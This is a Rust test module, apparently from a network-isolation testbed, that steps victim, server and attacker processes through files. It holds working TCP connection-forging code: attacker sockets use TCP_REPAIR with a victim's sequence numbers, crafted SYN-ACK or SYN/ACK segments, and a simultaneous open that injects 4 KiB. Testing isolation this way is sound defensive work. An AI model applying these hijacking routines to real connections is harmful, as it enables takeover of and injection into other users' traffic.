//! Cases that act while a connection is being established: a `write` that blocks
//! inside plain `tcp_sendmsg` until the handshake ends (so past sk_msg), and a pod's
//! client end forged from another connection's sequence numbers: with `TCP_REPAIR`,
//! established without a packet, or by a handshake of its own answered with a crafted
//! SYN-ACK. The test holds the handshake open with an iptables rule in the server's
//! namespace and steps the sides through files.

use std::{
    fmt::Debug,
    io::{ErrorKind, Read, Write},
    net::{Shutdown, SocketAddr, TcpStream},
    os::fd::AsFd,
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, bail, ensure};
use nix::{
    getsockopt_impl,
    poll::{PollFd, PollFlags, PollTimeout, poll},
    setsockopt_impl, sockopt_impl,
    sys::socket::{SetSockOpt, getsockopt, setsockopt},
};
use serde_json::{Value, json};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use testbed::peer::pattern::{Direction, Pattern, Verifier};

use super::{
    forger,
    trust::{Steps, wait_file},
};

// include/uapi/linux/tcp.h. nix has only TCP_REPAIR, as a u32 (leaving repair mode
// passes -1): all three declared with nix's own macro, as nix declares its options.
sockopt_impl!(
    /// `TCP_REPAIR`: 1 enters repair mode, [`REPAIR_OFF_NO_WP`] leaves it.
    Repair,
    SetOnly,
    libc::IPPROTO_TCP,
    libc::TCP_REPAIR,
    libc::c_int
);
sockopt_impl!(
    /// `TCP_REPAIR_QUEUE`: which queue [`QueueSeq`] reads or sets.
    RepairQueue,
    SetOnly,
    libc::IPPROTO_TCP,
    libc::TCP_REPAIR_QUEUE,
    libc::c_int
);
sockopt_impl!(
    /// `TCP_QUEUE_SEQ`: the sequence number of the queue chosen (in repair mode).
    QueueSeq,
    Both,
    libc::IPPROTO_TCP,
    libc::TCP_QUEUE_SEQ,
    u32
);
const TCP_RECV_QUEUE: libc::c_int = 1;
const TCP_SEND_QUEUE: libc::c_int = 2;
/// Leave repair mode without sending a window probe.
const REPAIR_OFF_NO_WP: libc::c_int = -1;

/// Sets one of the repair options above on `fd`.
fn set<O: SetSockOpt + Copy + Debug>(fd: &impl AsFd, opt: O, v: &O::Val) -> Result<()> {
    setsockopt(fd, opt, v).with_context(|| format!("setsockopt {opt:?}"))
}

/// Writes `n` bytes of the client's pattern from `p`.
fn send(s: &mut impl Write, p: &mut Pattern, n: u64) -> Result<()> {
    let mut buf = vec![0u8; 64 * 1024];
    let mut left = n;
    while left > 0 {
        let k = left.min(buf.len() as u64) as usize;
        p.fill(&mut buf[..k]);
        s.write_all(&buf[..k]).context("write")?;
        left -= k as u64;
    }
    Ok(())
}

/// connect-write, client: a non-blocking connect, the socket made blocking again, and
/// a thread whose `write` of `bytes` blocks until the handshake ends (the test holds
/// it open); mark once that thread is waiting. When its write returns, `bytes` more
/// from this thread, mark `go` (written: the server may read), half-close.
pub fn connect_write_client(connect: SocketAddr, st: &Steps<'_>) -> Result<Value> {
    let s = Socket::new(
        Domain::for_address(connect),
        Type::STREAM,
        Some(Protocol::TCP),
    )?;
    s.set_nonblocking(true)?;
    match s.connect(&SockAddr::from(connect)) {
        Ok(()) => bail!("connected at once: the handshake was not held"),
        Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => {}
        Err(e) => return Err(e).with_context(|| format!("connect {connect}")),
    }
    s.set_nonblocking(false)?;
    let mut stream: TcpStream = s.into();
    let mut first = stream.try_clone()?;
    let bytes = st.bytes;
    let writer = std::thread::spawn(move || -> Result<(Duration, Pattern)> {
        let t = Instant::now();
        let mut p = Pattern::new(0, Direction::ClientToServer);
        send(&mut first, &mut p, bytes)?;
        Ok((t.elapsed(), p))
    });
    // The thread is inside write(), waiting for the connection (sk_stream_wait_connect).
    std::thread::sleep(Duration::from_millis(200));
    if let Some(m) = st.mark {
        std::fs::write(m, b"").with_context(|| format!("write {}", m.display()))?;
    }
    let (blocked, mut p) = writer
        .join()
        .map_err(|_| anyhow::anyhow!("the writer thread panicked"))??;
    send(&mut stream, &mut p, bytes)?;
    if let Some(go) = st.go {
        std::fs::write(go, b"").with_context(|| format!("write {}", go.display()))?;
    }
    stream.shutdown(Shutdown::Write)?;
    let mut rest = Vec::new();
    let _ = stream.read_to_end(&mut rest);
    Ok(json!({"sent": 2 * bytes, "first_write_blocked_ms": blocked.as_millis()}))
}

/// forge, server: accept, send `bytes` to the client, half-close, read to EOF.
pub fn push_server(mut s: TcpStream, st: &Steps<'_>) -> Result<Value> {
    let mut p = Pattern::new(0, Direction::ServerToClient);
    send(&mut s, &mut p, st.bytes)?;
    s.shutdown(Shutdown::Write)?;
    let mut rest = Vec::new();
    let _ = s.read_to_end(&mut rest);
    Ok(json!({"sent": st.bytes}))
}

/// forge, client (the victim): once connected, read its own `snd_nxt` and `rcv_nxt`
/// through TCP_REPAIR (what another namespace could guess: the initial sequence numbers
/// are a keyed hash of the addresses plus a clock), write them as `"snd rcv"` to the
/// mark file, then read and verify what the server sends, to EOF.
pub fn forge_victim(mut s: TcpStream, st: &Steps<'_>) -> Result<Value> {
    set(&s, Repair, &1)?;
    set(&s, RepairQueue, &TCP_SEND_QUEUE)?;
    let snd = getsockopt(&s, QueueSeq).context("getsockopt QueueSeq")?;
    set(&s, RepairQueue, &TCP_RECV_QUEUE)?;
    let rcv = getsockopt(&s, QueueSeq).context("getsockopt QueueSeq")?;
    set(&s, Repair, &REPAIR_OFF_NO_WP)?;
    if let Some(m) = st.mark {
        let tmp = m.with_extension("tmp");
        std::fs::write(&tmp, format!("{snd} {rcv}")).context("write the sequence numbers")?;
        std::fs::rename(&tmp, m).context("publish the sequence numbers")?;
    }
    let mut v = Verifier::new(0, Direction::ServerToClient);
    let mut buf = vec![0u8; 64 * 1024];
    loop {
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => v.feed(&buf[..n]),
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted) => {}
            Err(e) => return Err(e).context("read"),
        }
    }
    Ok(
        json!({"received": v.offset(), "ok": v.first_mismatch().is_none() && v.offset() == st.bytes}),
    )
}

/// forge, attacker: a TCP_REPAIR socket bound to `bind` (the victim client's end) with
/// the victim's sequence numbers (read from the go file), "connected" to `connect`
/// without a packet; mark, then read for 3 s whatever arrives.
pub fn forge_attacker(connect: SocketAddr, bind: SocketAddr, st: &Steps<'_>) -> Result<Value> {
    let go = st.go.context("forge attacker needs --go-file")?;
    let (snd, rcv) = victim_sequence(go)?;
    let s = Socket::new(
        Domain::for_address(connect),
        Type::STREAM,
        Some(Protocol::TCP),
    )?;
    set(&s, Repair, &1)?;
    s.set_reuse_address(true)?;
    s.bind(&SockAddr::from(bind))
        .with_context(|| format!("bind {bind}"))?;
    set(&s, RepairQueue, &TCP_SEND_QUEUE)?;
    set(&s, QueueSeq, &snd)?;
    set(&s, RepairQueue, &TCP_RECV_QUEUE)?;
    set(&s, QueueSeq, &rcv)?;
    s.connect(&SockAddr::from(connect))
        .with_context(|| format!("repair connect {connect}"))?;
    set(&s, Repair, &REPAIR_OFF_NO_WP)?;
    if let Some(m) = st.mark {
        std::fs::write(m, b"").with_context(|| format!("write {}", m.display()))?;
    }
    let mut s: TcpStream = s.into();
    s.set_read_timeout(Some(Duration::from_millis(200)))?;
    let deadline = Instant::now() + Duration::from_secs(3);
    let mut buf = vec![0u8; 64 * 1024];
    let mut received = 0u64;
    while Instant::now() < deadline {
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => received += n as u64,
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted) => {}
            Err(e) => {
                return Ok(json!({"received": received, "error": e.to_string()}));
            }
        }
    }
    Ok(json!({"received": received}))
}

/// forge-handshake, client only (the attacker): the victim client's end forged with a
/// handshake of its own, so that it is established by a real SYN-ACK. In a user and
/// network namespace of its own ([`forger::enter_own_namespaces`]) holding the victim
/// client's address (`bind`), with the victim server's (`connect`) routed away, it
/// waits for the victim's `"snd rcv"` in the go file (its `snd_nxt` and `rcv_nxt`
/// once established: each side's initial sequence number plus one, for its SYN), presets
/// its own initial sequence number to the victim client's through `TCP_REPAIR` on the
/// unconnected socket, connects, and answers its own SYN with a SYN-ACK crafted as the
/// victim server's (its initial sequence number, acknowledging ours). Once connected,
/// mark, then read until the wait file exists and nothing more is queued.
pub fn forge_handshake(connect: SocketAddr, bind: SocketAddr, st: &Steps<'_>) -> Result<Value> {
    let (SocketAddr::V4(server), SocketAddr::V4(client)) = (connect, bind) else {
        bail!("forge-handshake is IPv4 only: {connect} from {bind}");
    };
    let go = st.go.context("forge-handshake needs --go-file")?;
    let stop = st.wait.context("forge-handshake needs --wait-file")?;
    let user_namespace = forger::enter_own_namespaces()?;
    forger::configure_network(*client.ip(), *server.ip())?;
    let (snd, rcv) = victim_sequence(go)?;
    let (client_isn, server_isn) = (snd.wrapping_sub(1), rcv.wrapping_sub(1));

    let s = connect_with_isn(client_isn, bind, connect)?;
    let packet = forger::syn_ack(server, client, server_isn, snd);
    forger::send_raw(&packet, *client.ip())?;
    let mut s = established(s, "the crafted SYN-ACK", st)?;
    s.set_read_timeout(Some(Duration::from_millis(100)))?;
    let (received, error) = read_until_stopped(&mut s, stop)?;
    if let Some(e) = error {
        return Ok(json!({"received": received, "error": e, "user_namespace": user_namespace}));
    }
    Ok(
        json!({"received": received, "isn": client_isn, "server_isn": server_isn, "user_namespace": user_namespace}),
    )
}

/// A non-blocking TCP socket bound to `bind` whose connect to `connect` has begun (and
/// cannot complete by itself: nothing answers there) with `isn` as its initial sequence
/// number. On a closed socket the send queue's sequence is `write_seq`, which connect
/// keeps as the initial sequence number when it is set (net/ipv4/tcp.c,
/// tcp_setsockopt; net/ipv4/tcp_ipv4.c, tcp_v4_connect). Repair is off again before
/// connecting, so the connect is an ordinary one.
fn connect_with_isn(isn: u32, bind: SocketAddr, connect: SocketAddr) -> Result<Socket> {
    let s = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))?;
    set(&s, Repair, &1)?;
    set(&s, RepairQueue, &TCP_SEND_QUEUE)?;
    set(&s, QueueSeq, &isn)?;
    set(&s, Repair, &REPAIR_OFF_NO_WP)?;
    s.bind(&SockAddr::from(bind))
        .with_context(|| format!("bind {bind}"))?;
    s.set_nonblocking(true)?;
    match s.connect(&SockAddr::from(connect)) {
        Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => Ok(s),
        Ok(()) => bail!("connected at once to {connect}: it should be unreachable here"),
        Err(e) => Err(e).with_context(|| format!("connect {connect}")),
    }
}

/// `s`, whose connect `by` (the crafted segments) completes, once it has: checked,
/// the mark file written, blocking again.
fn established(s: Socket, by: &str, st: &Steps<'_>) -> Result<TcpStream> {
    let mut fds = [PollFd::new(s.as_fd(), PollFlags::POLLOUT)];
    let ready = poll(&mut fds, PollTimeout::from(10_000u16)).context("poll")?;
    ensure!(ready == 1, "{by} did not establish the socket");
    if let Some(e) = s.take_error()? {
        return Err(e).with_context(|| format!("connect with {by}"));
    }
    if let Some(m) = st.mark {
        std::fs::write(m, b"").with_context(|| format!("write {}", m.display()))?;
    }
    let s: TcpStream = s.into();
    s.set_nonblocking(false)?;
    Ok(s)
}

/// pose-server, client only (the attacker, in a pod of its own, root there): the victim
/// client's connection (`connect`, its end) taken over as its server, from this pod's
/// own address (`bind`). The socket's initial sequence number is preset to the victim
/// server's (`TCP_REPAIR` on the unconnected socket), it connects to the victim client's
/// end (the test drops what it sends there), and a SYN crafted as the victim client's
/// (its initial sequence number) crosses its own: a simultaneous open, which the
/// kernel completes on the ACK crafted next, reaching `PASSIVE_ESTABLISHED` without a
/// listener. Mark, write 4 KiB (were it paired with the victim, they would land in the
/// victim's ingress queue), then read until the wait file exists.
pub fn pose_server(connect: SocketAddr, bind: SocketAddr, st: &Steps<'_>) -> Result<Value> {
    let (SocketAddr::V4(victim), SocketAddr::V4(me)) = (connect, bind) else {
        bail!("pose-server is IPv4 only: {connect} from {bind}");
    };
    let go = st.go.context("pose-server needs --go-file")?;
    let stop = st.wait.context("pose-server needs --wait-file")?;
    let (snd, rcv) = victim_sequence(go)?;
    let (client_isn, server_isn) = (snd.wrapping_sub(1), rcv.wrapping_sub(1));

    let s = connect_with_isn(server_isn, bind, connect)?;
    // The crossed SYN, then the ACK of the SYN-ACK the socket answers it with; both
    // are delivered here in the order sent.
    forger::send_raw(
        &forger::segment(victim, me, client_isn, 0, forger::SYN),
        *me.ip(),
    )?;
    forger::send_raw(
        &forger::segment(victim, me, snd, rcv, forger::ACK),
        *me.ip(),
    )?;
    let mut s = established(s, "the crafted handshake (a simultaneous open)", st)?;
    s.write_all(&[0xAA; 4096]).context("write")?;
    s.set_read_timeout(Some(Duration::from_millis(100)))?;
    let (received, error) = read_until_stopped(&mut s, stop)?;
    if let Some(e) = error {
        return Ok(json!({"received": received, "error": e}));
    }
    Ok(json!({"received": received, "injected": 4096}))
}

/// The victim's `"snd rcv"` (its `snd_nxt` and `rcv_nxt` once established), from the
/// go file once it exists.
fn victim_sequence(go: &std::path::Path) -> Result<(u32, u32)> {
    wait_file(go)?;
    let text = std::fs::read_to_string(go).context("read the sequence numbers")?;
    let mut it = text.split_whitespace().map(str::parse::<u32>);
    let (Some(Ok(snd)), Some(Ok(rcv))) = (it.next(), it.next()) else {
        bail!("bad sequence numbers {text:?}");
    };
    Ok((snd, rcv))
}

/// Reads `s` (with a read timeout set) until a read finds nothing after `stop`
/// appeared: whatever was queued before it has been read. Bytes read, and the read
/// error that ended it early, if one did.
fn read_until_stopped(s: &mut TcpStream, stop: &std::path::Path) -> Result<(u64, Option<String>)> {
    let deadline = Instant::now() + testbed::steps::STEP_WAIT;
    let mut buf = vec![0u8; 64 * 1024];
    let mut received = 0u64;
    loop {
        let stopping = stop.exists();
        match s.read(&mut buf) {
            Ok(0) => return Ok((received, None)),
            Ok(n) => received += n as u64,
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted) => {
                if stopping {
                    return Ok((received, None));
                }
                ensure!(
                    Instant::now() < deadline,
                    "{} did not appear within {:?}",
                    stop.display(),
                    testbed::steps::STEP_WAIT
                );
            }
            Err(e) => return Ok((received, Some(e.to_string()))),
        }
    }
}
